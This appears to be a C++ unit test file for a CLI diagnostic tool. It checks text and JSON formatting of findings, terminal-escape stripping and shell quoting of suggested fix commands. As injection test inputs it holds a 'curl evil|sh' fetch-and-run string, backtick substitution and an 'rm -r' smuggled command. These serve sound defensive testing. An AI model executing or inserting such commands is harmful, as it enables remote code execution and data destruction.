// SPDX-License-Identifier: Apache-2.0
//
// Findings as doctor prints them.
#include "cli/finding_text.h"

#include <string>
#include <vector>

#include "cli/finding.h"
#include "crypto/errors.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"

namespace statecpp {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

std::vector<FindingGroup> Groups() {
  return {{"daprd's side",
           {Fine("socket", "/s/cpp.sock", "a state store answers"),
            Fault("socket-stale", "/s/old.sock", "nobody answers",
                  "rm /s/old.sock")}},
          {"our side",
           {Warning("store-filling", "orders", "9 in use",
                    "first line\nsecond line")}}};
}

std::string Text(const std::vector<FindingGroup>& groups) {
  std::string text;
  for (const FindingGroup& group : groups) text += GroupText(group);
  return text + TotalText(groups);
}

TEST(FindingTextTest, EachHasALineAndItsFix) {
  EXPECT_EQ(Text(Groups()),
            "daprd's side\n"
            "  ok       /s/cpp.sock: a state store answers\n"
            "  FAULT    /s/old.sock: nobody answers\n"
            "           fix: rm /s/old.sock\n"
            "\n"
            "our side\n"
            "  warning  orders: 9 in use\n"
            "           fix: first line\n"
            "                second line\n"
            "\n"
            "1 fault, 1 warning\n");
}

TEST(FindingTextTest, NoneIsSaidAsWell) {
  EXPECT_EQ(TotalText({}), "no faults, no warnings\n");
}

TEST(FindingTextTest, JsonIsOneObject) {
  EXPECT_EQ(
      FindingsJson(Groups()),
      "{\"findings\":[{\"group\":\"daprd's side\",\"level\":\"ok\","
      "\"kind\":\"socket\",\"subject\":\"/s/cpp.sock\",\"text\":\"a state "
      "store answers\"},{\"group\":\"daprd's side\",\"level\":\"fault\","
      "\"kind\":\"socket-stale\",\"subject\":\"/s/old.sock\",\"text\":"
      "\"nobody answers\",\"fix\":\"rm /s/old.sock\"},{\"group\":\"our "
      "side\",\"level\":\"warning\",\"kind\":\"store-filling\",\"subject\":"
      "\"orders\",\"text\":\"9 in use\",\"fix\":\"first line\\u000asecond "
      "line\"}"
      "],\"warnings\":1,\"faults\":1}\n");
}

// The name of a file, or a field of a YAML, can be anybody's.
TEST(FindingTextTest, NothingMovesTheCursor) {
  const std::string text =
      Text({{"a", {Fault("kind", "sub\x1b[2Jject", "te\rxt", "fi\x07x")}}});
  for (const char* bad : {"\x1b", "\r", "\x07"}) {
    EXPECT_THAT(text, Not(HasSubstr(bad)));
  }
}

TEST(FindingTextTest, ACommandIsWhatAnErrorNamesAndNotWhatItQuotes) {
  EXPECT_EQ(
      CommandOf(error::KeyFileLooseMode("key file a`b`", "a`b`", 0644), "none"),
      "chmod g-w,o-rwx 'a`b`'");
  EXPECT_EQ(CommandOf(error::KeyFileMissing("key file `curl evil|sh`"), "none"),
            "none");
}

TEST(FindingTextTest, AShellTakesAWordForOne) {
  EXPECT_EQ(ShellWord("/var/lib/a-b_c.d"), "/var/lib/a-b_c.d");
  EXPECT_EQ(ShellWord("a b"), "'a b'");
  EXPECT_EQ(ShellWord("it's; rm -r"), "'it'\\''s; rm -r'");
  EXPECT_EQ(ShellWord(""), "''");
}

}  // namespace
}  // namespace statecpp
